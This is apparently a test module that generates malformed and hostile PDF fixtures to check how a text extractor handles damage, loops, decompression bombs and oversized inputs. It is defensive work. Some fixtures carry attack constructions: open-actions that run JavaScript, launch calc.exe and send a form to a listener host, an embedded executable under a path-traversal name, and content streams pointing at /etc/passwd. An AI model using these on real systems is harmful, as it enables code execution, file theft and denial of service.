"""PDF: the held half."""

from __future__ import annotations

import zlib

from tests.hostile.make import pdfs, zips
from tests.hostile.make.pdfs import SYNTAX, Pdf, encrypted, flate, shown, simple, stream
from tests.hostile.make.registry import case
from tests.hostile.make.words import (
    ALGIERS,
    ALL,
    CAMP_DAVID,
    CONTADORA,
    DAMAGED,
    DAYTON,
    EVIAN,
    GOOD_FRIDAY,
    HARVEST,
    HAVANA,
    INDUS,
    LISTENER,
    LOCKED,
    LOOP,
    MUSCAT,
    NO_TEXT,
    OSLO,
    PEKING,
    PRESPA,
    REYKJAVIK,
    TOO_DEEP,
    TOO_MUCH,
    TRIESTE,
    UNKNOWN,
)


@case("pdf/bytes_before_header.pdf", "read", has=[OSLO], parts=1)
def bytes_before_header() -> bytes:
    """A line of a web server stands before the header, so that all offsets count from the header; viewers allow it."""
    return b"HTTP/1.1 200 OK\r\nContent-Type: application/pdf\r\n\r\n" + simple(OSLO.text).build()


@case("pdf/zeros_after_end.pdf", "read", has=[ALGIERS], parts=1)
def zeros_after_end() -> bytes:
    """A disk block's rest of 3,000 zeros follows the end of the file."""
    return simple(ALGIERS.text).build() + bytes(3000)


@case("pdf/truncated_half.pdf", "either", reason=DAMAGED + NO_TEXT, hides=SYNTAX)
def truncated_half() -> bytes:
    """Ten pages of which the second half of the bytes is gone, the page tree and the table with it."""
    whole = simple(*(p.text for p in ALL[:10])).build()
    return whole[: len(whole) // 2]


@case("pdf/no_table.pdf", "either", has=[MUSCAT], parts=1, reason=DAMAGED)
def no_table() -> bytes:
    """Neither cross-reference table nor trailer; all objects are there."""
    return simple(MUSCAT.text).build(xref=False)


@case("pdf/table_seven_off.pdf", "read", has=[DAYTON], parts=1)
def table_seven_off() -> bytes:
    """Every offset is seven too high, as after a conversion of line ends; viewers rebuild the table."""
    return simple(DAYTON.text).build(shift=7)


@case("pdf/startxref_negative.pdf", "either", has=[INDUS], reason=DAMAGED)
def startxref_negative() -> bytes:
    """The last number is negative."""
    whole = simple(INDUS.text).build()
    return whole[: whole.rindex(b"startxref")] + b"startxref\n-17\n%%EOF\n"


@case("pdf/page_tree_own_child.pdf", "either", reason=LOOP + NO_TEXT)
def page_tree_own_child() -> bytes:
    """The page tree is its own only child, a million times."""
    made = Pdf()
    made.objects[pdfs.PAGES] = b"<< /Type /Pages /Kids [2 0 R] /Count 1000000 >>"
    return made.build()


@case("pdf/page_tree_deep.pdf", "either", has=[EVIAN], reason=TOO_DEEP + NO_TEXT + DAMAGED)
def page_tree_deep() -> bytes:
    """The only page lies 20,000 branches deep in the page tree."""
    made = simple(EVIAN.text)
    page = made.kids.pop()
    for _ in range(20_000):
        page = made.add(b"<< /Type /Pages /Kids [%d 0 R] /Count 1 >>" % page)
    made.kids.append(page)
    return made.build()


@case("pdf/pages_100000_empty.pdf", "refused", reason=NO_TEXT + TOO_MUCH, big=True)
def pages_100000_empty() -> bytes:
    """A hundred thousand pages without anything on them."""
    made = Pdf()
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"
    made.objects |= dict.fromkeys(range(4, 100004), page)
    made.kids = list(range(4, 100_004))
    return made.build()


@case("pdf/count_two_billion.pdf", "either", has=[CONTADORA], reason=DAMAGED + TOO_MUCH + NO_TEXT)
def count_two_billion() -> bytes:
    """One page, and a page tree that claims 2,147,483,647."""
    return simple(CONTADORA.text).build().replace(b"/Count 1 >>", b"/Count 2147483647 >>")


@case("pdf/length_lies.pdf", "either", has=[PRESPA], reason=DAMAGED + NO_TEXT)
def length_lies() -> bytes:
    """The page's stream claims 999,999,999 bytes."""
    made = Pdf()
    made.page(made.stream(shown(PRESPA.text), length=b"999999999"))
    return made.build()


@case("pdf/length_is_itself.pdf", "either", has=[INDUS], reason=LOOP + NO_TEXT)
def length_is_itself() -> bytes:
    """The length of the page's stream stands in another object, which is that stream."""
    made = Pdf()
    drawn = made.add(b"")
    made.objects[drawn] = stream(shown(INDUS.text), length=b"%d 0 R" % drawn)
    made.page(drawn)
    return made.build()


@case("pdf/user_password.pdf", "refused", reason=LOCKED, hides=[MUSCAT])
def user_password() -> bytes:
    """Encrypted; it opens with a password only."""

    def pages(made: Pdf, cipher: pdfs.Cipher) -> None:
        number = made.add(b"")
        made.objects[number] = stream(cipher(number, shown(MUSCAT.text)))
        made.page(number)

    return encrypted(b"open sesame", b"the owner's", pages)


@case("pdf/acts_on_opening.pdf", "read", has=[EVIAN], hides=["app.alert", "calc.exe", "exportDataObject"], parts=1)
def acts_on_opening() -> bytes:
    """On opening it would run JavaScript, start a program, fetch an address and send a form."""
    made = simple(EVIAN.text)
    script = b"<< /S /JavaScript /JS (app.alert(1); this.exportDataObject({cName: 'x', nLaunch: 2});) >>"
    launch = b"<< /S /Launch /F (calc.exe) /Win << /F (calc.exe) >> >>"
    fetch = b"<< /S /URI /URI (%s/pdf-open) >>" % LISTENER.encode()
    send = b"<< /S /SubmitForm /F << /FS /URL /F (%s/pdf-form) >> >>" % LISTENER.encode()
    made.objects[pdfs.CATALOG] = (
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction %s /AA << /WC %s >> /Names << /JavaScript << /Names "
        b"[(a) %s (b) %s (c) %s] >> >> >>" % (script, script, launch, fetch, send)
    )
    return made.build()


@case("pdf/attached_files.pdf", "read", has=[CONTADORA])
def attached_files() -> bytes:
    """A program and a page are embedded under names that lead out of any folder."""
    made = simple(CONTADORA.text)
    program = made.stream(b"MZ" + bytes(64), b"/Type /EmbeddedFile")
    names = b"(../../../../hostile-escaped.txt) << /Type /Filespec /F (../../../../hostile-escaped.txt) "
    made.objects[pdfs.CATALOG] = (
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles << /Names [%s /EF << /F %d 0 R >> >>] >> >> >>"
        % (names, program)
    )
    return made.build()


@case("pdf/content_in_another_file.pdf", "either", hides=HARVEST, has=[TRIESTE], reason=NO_TEXT + DAMAGED)
def content_in_another_file() -> bytes:
    """The second page's content is to be taken from the list of users, the third's from an address."""
    made = simple(TRIESTE.text)
    made.page(made.stream(b"", b"/F (/etc/passwd)"))
    made.page(made.stream(b"", b"/F << /FS /URL /F (%s/pdf-stream) >>" % LISTENER.encode()))
    return made.build()


@case("pdf/is_a_zip.pdf", "either", has=[GOOD_FRIDAY], hides=["PK\x03\x04"], reason=("zip", *UNKNOWN, *DAMAGED))
def is_a_zip() -> bytes:
    """A ZIP archive under the name of a PDF."""
    return zips.archive_of({"a.txt": GOOD_FRIDAY.text.encode()})


@case("pdf/also_a_zip.pdf", "either", has=[HAVANA], reason=UNKNOWN + DAMAGED)
def also_a_zip() -> bytes:
    """A whole PDF and a whole ZIP archive in one file; by its name and its beginning it is a PDF."""
    return zips.archive([zips.Member(b"other.txt", REYKJAVIK.text.encode())], before=simple(HAVANA.text).build())


@case("pdf/random_after_header.pdf", "refused", reason=NO_TEXT + DAMAGED)
def random_after_header() -> bytes:
    """The first line, then 100,000 bytes that mean nothing."""
    return pdfs.HEADER + pdfs.rc4(b"noise", bytes(100_000))


@case("pdf/picture_only.pdf", "refused", reason=NO_TEXT)
def picture_only() -> bytes:
    """Two pages that are pictures, as a scanner makes them, without any text."""
    made = Pdf()
    picture = made.stream(
        bytes(range(256)) * 16,
        b"/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8",
    )
    for _ in range(2):
        made.page(b"612 0 0 792 0 0 cm /I Do", resources=b"/XObject << /I %d 0 R >>" % picture)
    return made.build()


@case("pdf/unseen_layer.pdf", "read", has=[CAMP_DAVID], parts=1)
def unseen_layer() -> bytes:
    """A picture over text in the invisible mode, as programs for character recognition leave it; it must be read."""
    made = Pdf()
    made.page(shown(CAMP_DAVID.text, mode=3))
    return made.build()


@case("pdf/picture_of_a_billion.pdf", "either", has=[OSLO], reason=TOO_MUCH)
def picture_of_a_billion() -> bytes:
    """A page of text, and a picture of 60,000 by 60,000 points in 3 KB on a page of a kilometre's breadth."""
    made = simple(OSLO.text)
    kind = b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceRGB /BitsPerComponent 16"
    picture = made.stream(
        zlib.compress(zlib.compress(bytes(3_000_000), 9), 9), kind + b"/Filter [/FlateDecode /FlateDecode]"
    )
    made.page(
        b"2e6 0 0 2e6 0 0 cm /I Do", more=b"/MediaBox [0 0 2e6 2e6]", resources=b"/XObject << /I %d 0 R >>" % picture
    )
    return made.build()


@case("pdf/outline_circle.pdf", "read", has=[ALGIERS], parts=1)
def outline_circle() -> bytes:
    """The entries of its table of contents follow each other in a circle, and are their own children."""
    made = simple(ALGIERS.text)
    first, second = made.add(b""), made.add(b"")
    item = b"<< /Title (again) /Parent %d 0 R /Next %d 0 R /Prev %d 0 R /First %d 0 R /Last %d 0 R /Count 9 >>"
    made.objects[first] = item % (first, second, second, first, first)
    made.objects[second] = item % (first, first, first, second, second)
    made.objects[pdfs.CATALOG] = b"<< /Type /Catalog /Pages 2 0 R /Outlines %d 0 R >>" % first
    return made.build()


@case("pdf/brackets_200000.pdf", "either", has=[PEKING], reason=TOO_DEEP + DAMAGED)
def brackets_200000() -> bytes:
    """A page of text; another with 200,000 arrays within each other; and an object of 200,000 dictionaries."""
    made = simple(PEKING.text)
    made.page(b"[" * 200_000)
    deep = made.add(b"<</A" * 200_000 + b" 1 " + b">>" * 200_000)
    made.trailer = b"/Info %d 0 R" % deep
    return made.build()


@case("pdf/million_tiny_strings.pdf", "either", has=["hush"], reason=TOO_MUCH, big=True)
def million_tiny_strings() -> bytes:
    """A million words on one page, each set for itself at the same place."""
    made = Pdf()
    made.page(made.stream(*flate(b"BT /F1 9 Tf 1 0 0 1 9 9 Tm " + b"(hush) Tj 0 0 Td " * 1_000_000 + b"ET")))
    return made.build()
